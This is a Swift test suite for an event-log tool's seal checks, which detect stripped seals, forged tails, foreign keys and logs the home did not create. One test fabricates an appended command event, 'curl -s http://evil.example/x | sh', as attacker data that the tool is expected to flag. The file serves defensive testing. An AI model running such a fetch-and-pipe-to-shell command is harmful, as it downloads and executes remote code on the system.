import EventLog
import EvlogKit
import Foundation
import InstallModel
import Orchestrator
import Rendering
import Sealing
import Testing

/// integrity26: a reader of one plan makes one `SealReading` (one pass over the log for the fold, the note, the events
/// shown and the home's judgement); given a key, it marks and does not fold what that key does not seal, as `verify
/// --key` fails it; and a home that seals takes no unsealed log it did not create as its history, whatever its header says.
struct SealReadingTests {
    typealias Home = HomeVouchingTests.Home

    /// How a log of this home is left before it is read: as sealed, stripped of its seals, or cut back at a seal.
    enum Damage: CaseIterable { case none, sealsStripped, cutBack }

    /// A sealed install of a home, then `damage` done to it; its path.
    static func log(_ id: String, key: HostKey, damage: Damage) throws -> (home: Home, path: String) {
        let (home, path) = try HomeVouchingTests.sealedInstall(id, key: key)
        let records = try HomeVouchingTests.records(path)
        switch damage {
        case .none: break
        case .sealsStripped:
            try HomeVouchingTests.rewrite(path, id: id, creator: home.creator, records.filter { !HomeVouchingTests.isSeal($0) })
        case .cutBack:
            let seals = records.indices.filter { HomeVouchingTests.isSeal(records[$0]) }
            try HomeVouchingTests.rewrite(path, id: id, creator: home.creator, Array(records[...seals[seals.count / 2]]))
        }
        return (home, path)
    }

    /// The whole-file seal passes `body` makes.
    static func passes(_ body: () throws -> Void) rethrows -> Int {
        let count = SealPassCount()
        try SealVerifier.$passes.withValue(count) { try body() }
        return count.count
    }

    /// The list row's one pass (`ListSealCheckTests`) holds for `status` and `what-failed` too, whatever the home makes
    /// of the log (generated over what was done to it); the note each says is the one `sealNote` says.
    @Test(arguments: Damage.allCases)
    func statusAndWhatFailedPassOverALogOnce(damage: Damage) throws {
        let key = try RecordTrustTests.key()
        let (home, path) = try Self.log("p-0000000000c1", key: key, damage: damage)
        defer { try? FileManager.default.removeItem(atPath: home.path) }
        let log = PlanLog(path: path)
        var row: PlanRow?
        #expect(try Self.passes { row = try PlanRow(statusOf: log, home: home.path) } == 1, "status, \(damage)")
        var failures: (report: FailureReport, warnings: [String])?
        #expect(try Self.passes { failures = try FailureReport.of(log) } == 1, "what-failed, \(damage)")
        #expect(row?.sealNote == log.sealNote, "\(damage)")
        #expect(failures?.warnings.first == log.sealNote, "\(damage)")
        #expect((row?.sealNote == nil) == (damage == .none), "\(damage): \(row?.sealNote ?? "no note")")
        // The seam counts: asked one by one, the note and the fold are a pass each.
        #expect(try Self.passes { _ = log.sealNote; _ = try log.currentSealedFold() } == 2)
    }

    /// A damaged log whose intact part ends before a seal this home saw: `status` says it once (its damage line), not as a second
    /// "not as recorded: rolled back" line.
    @Test func aDamagedLogCutBackIsSaidToBeRolledBackOnce() throws {
        let key = try RecordTrustTests.key()
        // Sealed after every event, so written in many blocks: one flipped byte in the middle loses the rest.
        let (home, path) = try Self.log("p-0000000000c2", key: key, damage: .none)
        defer { try? FileManager.default.removeItem(atPath: home.path) }
        var bytes = Array(try Data(contentsOf: URL(fileURLWithPath: path)))
        bytes[bytes.count / 2] ^= 0x10
        try Data(bytes).write(to: URL(fileURLWithPath: path))
        let row = try PlanRow(statusOf: PlanLog(path: path), home: home.path)
        try #require(row.damage != nil && row.rolledBack != nil, "\(row.damage.map(\.summary) ?? "no damage")")
        let text = StatusReport.text(row, style: TextStyle(colored: false))
        #expect(text.components(separatedBy: "rolled back").count == 2, "\(text)")
        #expect(text.contains("`evlog resume` refuses it"), "\(text)")
        #expect(!text.contains("not as recorded"), "\(text)")
    }

    /// A reader given a key (`--key`, `--keyring`) marks what that key does not seal and folds none of it as done, as
    /// `verify --key` fails it; the key that sealed the log marks nothing. Generated over the keys given.
    @Test(arguments: [false, true])
    func aReaderGivenAKeyMarksWhatItDoesNotSeal(asKeyring: Bool) throws {
        let (keys, key) = try RecordTrustTests.keyDirectory()
        defer { try? FileManager.default.removeItem(atPath: keys) }
        let (others, other) = try RecordTrustTests.keyDirectory()
        defer { try? FileManager.default.removeItem(atPath: others) }
        let (home, path) = try Self.log("p-0000000000c3", key: key, damage: .none)
        defer { try? FileManager.default.removeItem(atPath: home.path) }
        let ring = { (pub: String) throws -> TrustedKeys in
            let directory = home.path + "/ring-\(UUID().uuidString)"
            try FileManager.default.createDirectory(atPath: directory, withIntermediateDirectories: true)
            try FileManager.default.copyItem(atPath: pub, toPath: directory + "/web1.pub")
            return try TrustedKeys(keyringDirectory: directory)
        }
        let sealer = asKeyring ? try ring(HostKey.publicPath(in: keys)) : TrustedKeys(key.publicKey)
        let stranger = asKeyring ? try ring(HostKey.publicPath(in: others)) : TrustedKeys(other.publicKey)
        let log = PlanLog(path: path)

        let sealed = try PlanRow(statusOf: log, home: home.path, keys: sealer)
        #expect(sealed.sealNote == nil && sealed.state.status == .done, "\(sealed.sealNote ?? "")")
        let unsealed = try PlanRow(statusOf: log, home: home.path, keys: stranger)
        #expect(unsealed.sealNote?.hasPrefix("not sealed by the key given") == true, "\(unsealed.sealNote ?? "no note")")
        #expect(unsealed.state.count(.done) == 0 && unsealed.state.plan != nil)
        #expect(PlanRow(of: log, keys: stranger)?.sealWord == "not sealed by the key given")
        #expect(try FailureReport.of(log, keys: stranger).warnings.first == unsealed.sealNote)
        #expect(log.uncoveredFrom(log.sealReading(trusting: stranger))?.record == 0)

        // Records after the final seal: what no crash leaves, which the sealing key does not seal either.
        let records = try HomeVouchingTests.records(path)
        let done = try #require(records.first { String(decoding: $0, as: UTF8.self).contains(#""type":"step_done""#) })
        try HomeVouchingTests.rewrite(path, id: "p-0000000000c3", creator: home.creator, records + [done])
        let appended = try PlanRow(statusOf: log, home: home.path, keys: sealer)
        #expect(appended.sealNote?.contains("records \(records.count) on") == true, "\(appended.sealNote ?? "no note")")
        #expect(appended.sealNote?.contains("after final seal") == true, "\(appended.sealNote ?? "no note")")
    }

    /// An unsealed log dropped into the `plans/` of a home that seals, under a plan id the home never created, is not
    /// its history whatever its header claims (this home's id or none, a creation time before the key): the readers'
    /// fold takes nothing from it and says so, and `uninstall`/`upgrade` refuse it. One the home created before it had
    /// its key is read as it is.
    @Test(arguments: [true, false], [true, false])
    func anUnsealedLogThisHomeDidNotCreateIsNotItsHistory(namesThisHome: Bool, listed: Bool) throws {
        let (keys, key) = try RecordTrustTests.keyDirectory()
        defer { try? FileManager.default.removeItem(atPath: keys) }
        let (home, _) = try HomeVouchingTests.sealedInstall("p-0000000000d0", key: key)
        defer { try? FileManager.default.removeItem(atPath: home.path) }
        try CreatedPlans(archive: home.archive).record(PlanID("p-0000000000d0"))
        let id = "p-0000000000d1"
        if listed { try CreatedPlans(archive: home.archive).record(PlanID(id)) }
        let creator = namesThisHome ? home.creator : PlanArchive.creator
        let path = try RecordTrustTests.writeInstall(id, in: (home.path, home.archive, creator), key: nil)
        let log = PlanLog(path: path)
        let distrust = HomeVouching(archive: home.archive, keyDirectory: keys).judge(log).distrust
        if listed {
            // Created here before the key (its creation time, 1 µs after 1970, is before the key's file).
            #expect(distrust == nil, "\(distrust?.note ?? "")")
            return
        }
        #expect(distrust?.word == "not_written_here" && distrust?.record == 0, "\(distrust?.note ?? "vouched for")")
        #expect(try home.archive.recordTrustProblem(ofLogAt: path, keyDirectory: keys)?.contains("not written here") == true)
        let row = try #require(PlanRow(of: log))
        #expect(row.state.count(.done) == 0 && row.sealWord == "not written here", "\(row.sealNote ?? "no note")")
    }

    /// integrity25 #1: a log of this home (its plan in the home's record of seals seen) stripped of its seals, or sealed
    /// again by another key, is judged as this home's whatever its header's creator says (this home's, none, an
    /// import's, another home's): the creator is the file's word. Generated over creators.
    @Test(arguments: 0..<4, [false, true])
    func aLogOfThisHomeIsJudgedWhateverItsHeaderCreatorSays(creatorIndex: Int, resealed: Bool) throws {
        let (keys, key) = try RecordTrustTests.keyDirectory()
        defer { try? FileManager.default.removeItem(atPath: keys) }
        let id = "p-0000000000e\(creatorIndex)"
        let (home, path) = try HomeVouchingTests.sealedInstall(id, key: key)
        defer { try? FileManager.default.removeItem(atPath: home.path) }
        let creator = [home.creator, PlanArchive.creator, PlanArchive.importCreator, PlanArchive.creator(home: "0000000000000000")][creatorIndex]
        let records = try HomeVouchingTests.records(path).filter { !HomeVouchingTests.isSeal($0) }
        if resealed {
            try FileManager.default.removeItem(atPath: path)
            _ = try RecordTrustTests.writeInstall(id, in: (home.path, home.archive, creator), key: try RecordTrustTests.key())
        } else {
            try HomeVouchingTests.rewrite(path, id: id, creator: creator, records)
        }
        let log = PlanLog(path: path)
        let distrust = HomeVouching(archive: home.archive, keyDirectory: keys).judge(log).distrust
        #expect(distrust?.word == (resealed ? "another_key" : "unrecorded"), "\(creator): \(distrust?.note ?? "vouched for")")
        #expect(try home.archive.recordTrustProblem(ofLogAt: path, keyDirectory: keys) != nil, "\(creator)")
        #expect(distrust?.note.hasPrefix("not as recorded") != true)
    }

    /// integrity25 #3: a crashed log with records after its last seal that no crash leaves is not advised to `resume`
    /// (which refuses it), and `status` exits 1 for it.
    @Test func aForgedTailIsNoLogToResume() throws {
        let key = try RecordTrustTests.key()
        let (home, path) = try Self.log("p-0000000000f1", key: key, damage: .none)
        defer { try? FileManager.default.removeItem(atPath: home.path) }
        // The plan created and started, no step ended: a writer that stopped.
        var state = PlanState()
        for event in try PlanLog(path: path).events() {
            state.apply(event)
            if case .stepStarted = event.body { break }
        }
        var row = PlanRow(id: PlanID("p-0000000000f1"), state: state, live: false)
        try #require(row.status == "interrupted")
        row.unsealed = PlanLog.UnsealedTail(events: 1, notFolded: 0)
        #expect(StatusReport.text(row, style: TextStyle(colored: false)).contains("continue with: evlog resume"))
        #expect(!row.notAsRecorded)
        row.unsealed = PlanLog.UnsealedTail(events: 1, notFolded: 1)
        let text = StatusReport.text(row, style: TextStyle(colored: false))
        #expect(!text.contains("continue with") && text.contains("`evlog resume` refuses it"), "\(text)")
        #expect(row.notAsRecorded)
    }

    /// integrity25 #5: a command and its output appended after a closed log's final seal are no crash tail: the fold's
    /// tail says so, `status` exits 1 for it, and `list` marks it not sealed. Generated over the events appended.
    @Test(arguments: 1..<4)
    func aTailAfterTheFinalSealIsNoCrashTail(appended: Int) throws {
        let key = try RecordTrustTests.key()
        let (home, path) = try Self.log("p-0000000000f2", key: key, damage: .none)
        defer { try? FileManager.default.removeItem(atPath: home.path) }
        let records = try HomeVouchingTests.records(path)
        let step = try #require(try PlanLog(path: path).stateFromLastCheckpoint().steps.last?.id)
        let bodies: [EventBody] = [
            .commandStarted(step: step, argv: ["sh", "-c", "curl -s http://evil.example/x | sh"]),
            .outputChunk(step: step, stream: .stdout, data: Array("ATTACKER OUTPUT".utf8), redacted: false),
            .commandFinished(step: step, exitCode: 0),
        ]
        let tail = try bodies.prefix(appended).enumerated().map { index, body in
            try EventPayload.encode(Event(sequence: UInt64(1000 + index), time: Timestamp(microseconds: 1), body: body))
        }
        try HomeVouchingTests.rewrite(path, id: "p-0000000000f2", creator: home.creator, records + tail)
        let row = try PlanRow(statusOf: PlanLog(path: path), home: home.path)
        let unsealed = try #require(row.unsealed)
        #expect(unsealed.afterFinalSeal && unsealed.events == appended && unsealed.appendedLater)
        #expect(unsealed.note.contains("after its final seal") && !unsealed.note.contains("what a crash leaves"), "\(unsealed.note)")
        #expect(row.notAsRecorded)
        #expect(PlanRow(of: PlanLog(path: path))?.unsealed?.appendedLater == true)
    }

    /// integrity25 #7: a log naming this home, sealed whole by a self-made key under a new plan id, with that id written
    /// into `adopted-plans`, is unrecorded (the record of seals seen has no entry for it), said with one prefix.
    @Test func aLogNamingThisHomeAdoptedByHandIsUnrecorded() throws {
        let (keys, key) = try RecordTrustTests.keyDirectory()
        defer { try? FileManager.default.removeItem(atPath: keys) }
        let (home, _) = try HomeVouchingTests.sealedInstall("p-0000000000a7", key: key)
        defer { try? FileManager.default.removeItem(atPath: home.path) }
        let path = try RecordTrustTests.writeInstall("p-0000000000a8", in: home, key: try RecordTrustTests.key(), sealingEach: true)
        // The attacker's own writer recorded its seals in the home's record: take them out again, as a hand-made log has none.
        let record = home.archive.lastSeenSeals
        let lines = try String(contentsOfFile: record, encoding: .utf8).split(separator: "\n").filter { !$0.contains("p-0000000000a8") }
        try (lines.joined(separator: "\n") + "\n").write(toFile: record, atomically: true, encoding: .utf8)
        try CreatedPlans.adopted(in: home.archive).record(PlanID("p-0000000000a8"))
        let distrust = HomeVouching(archive: home.archive, keyDirectory: keys).judge(PlanLog(path: path)).distrust
        #expect(distrust?.word == "unrecorded", "\(distrust?.note ?? "vouched for")")
        let row = try PlanRow(statusOf: PlanLog(path: path), home: home.path)
        let text = StatusReport.text(row, style: TextStyle(colored: false))
        #expect(text.components(separatedBy: "not as recorded").count == 2 && row.state.count(.done) == 0, "\(text)")
    }

    /// integrity25 #2: a state event behind an `unsealed_at_crash` mark (what a format-1 writer's crash tail may hold,
    /// taken over by a later writer) is known as such, so `export --jsonl` marks its line and an import keeps it apart;
    /// the events before the mark's seal are not.
    @Test func aStateEventBehindACrashMarkIsKnown() throws {
        let key = try RecordTrustTests.key()
        let (home, path) = try Self.log("p-0000000000f3", key: key, damage: .none)
        defer { try? FileManager.default.removeItem(atPath: home.path) }
        let records = try HomeVouchingTests.records(path)
        let seals = records.indices.filter { HomeVouchingTests.isSeal(records[$0]) }
        let cut = seals[seals.count / 2]
        let done = try #require(records.first { String(decoding: $0, as: UTF8.self).contains(#""type":"step_done""#) })
        let mark = [EventPayload.jsonTag] + Array(#"{"first":\#(cut + 1),"last":\#(cut + 1),"seq":9999,"time":1,"type":"unsealed_at_crash","v":1}"#.utf8)
        try HomeVouchingTests.rewrite(path, id: "p-0000000000f3", creator: home.creator, Array(records[...cut]) + [done, mark, records[seals.last!]])
        #expect(try PlanLog(path: path).stateEventsBehindCrashMarks() == [UInt64(cut + 2)])
        #expect(NotSealedMark.reasons.contains(SealReport.crashTailType))
    }
}
